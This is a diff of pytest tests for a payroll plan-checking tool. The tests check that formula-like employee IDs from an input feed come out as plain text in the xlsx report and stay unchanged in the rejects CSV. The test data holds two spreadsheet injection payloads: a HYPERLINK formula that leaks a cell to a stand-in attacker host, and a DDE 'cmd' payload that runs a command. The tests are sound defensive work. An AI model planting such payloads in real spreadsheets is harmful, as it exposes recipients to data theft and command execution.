@@ -5,13 +5,18 @@ README's "Nothing lost" promises: exit 2 with one line, no traceback, no input o
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
 import os
+import zipfile
 from pathlib import Path
 
 import pytest
 
 from helpers import ROOT, plancheck, s3_endpoint
-from hostile import digest, feed_bytes, good_rows
+from hostile import digest, feed_bytes, good_rows, row
+from plancheck.documents.feed.reader import COLUMNS
 
 PLANS = ROOT / "plans"
 
@@ -197,3 +202,50 @@ def test_outputs_staged_together_are_all_removed_when_the_block_fails(tmp_path):
         raise RuntimeError("the run fails after writing its outputs")
     assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]
     assert (tmp_path / "a.txt").read_text() == "old a\n"
+
+
+# -- 4. Texts from the feed stay texts in the workbook --------------------------------------------
+
+FORMULA_ID = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")'
+
+
+def test_an_employee_id_that_looks_like_a_formula_is_text_in_the_workbook(tmp_path):
+    """`=HYPERLINK(...)` as an employee id became a live formula in the --xlsx workbook forwarded to sponsors."""
+    text = io.StringIO()
+    writer = csv.writer(text, lineterminator="\n")
+    writer.writerow(COLUMNS)
+    for k in range(20):  # 20 x $2,000 pretax: over 402(g), so the id reaches the workbook in a finding
+        pay_date = (dt.date(2024, 1, 5) + dt.timedelta(days=14 * k)).isoformat()
+        writer.writerow(row(employee_id=FORMULA_ID, pay_date=pay_date, pretax="2000.00", compensation="9000.00"))
+        writer.writerow(row(employee_id="+1-555-0100", pay_date=pay_date, pretax="2000.00", compensation="9000.00"))
+    feed = tmp_path / "feed.csv"
+    feed.write_text(text.getvalue())
+    result = batch(tmp_path, feed, "--db", tmp_path / "h.sqlite", "--xlsx", tmp_path / "report.xlsx")
+    assert result.returncode == 1, result.stderr
+    with zipfile.ZipFile(tmp_path / "report.xlsx") as book:
+        sheets = {name: book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")}
+        shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
+    assert len(sheets) > 1
+    assert not any("<f>" in xml or "<hyperlink" in xml for xml in sheets.values()), "a formula or link was written"
+    openpyxl = pytest.importorskip("openpyxl")
+    cells = [cell for sheet in openpyxl.load_workbook(tmp_path / "report.xlsx").worksheets for line in sheet.iter_rows()
+             for cell in line if cell.value is not None]
+    ids = [cell for cell in cells if cell.value in (FORMULA_ID, "+1-555-0100")]
+    assert len(ids) >= 2 and all(cell.data_type == "s" for cell in ids), [(c.value, c.data_type) for c in ids]
+    assert "HYPERLINK" in shared or any("HYPERLINK" in xml for xml in sheets.values())
+
+
+def test_the_rejects_csv_keeps_a_formula_like_value_as_the_feed_had_it(tmp_path):
+    """The rejects file is the feed's records to correct and feed again: its values are the input's, not escaped
+    (README, "Nothing lost": open it in a spreadsheet through the text import, not by double-clicking)."""
+    value = "=cmd|' /C calc'!A0"
+    text = io.StringIO()
+    writer = csv.writer(text, lineterminator="\n")
+    writer.writerow(COLUMNS)
+    writer.writerow(row(employee_id=value, pay_date="2024-02-30"))
+    feed = tmp_path / "feed.csv"
+    feed.write_text(text.getvalue())
+    result = batch(tmp_path, feed)
+    assert result.returncode == 0, result.stderr
+    rejected = list(csv.DictReader((tmp_path / "rejects.csv").open(newline="")))
+    assert [r["employee_id"] for r in rejected] == [value]
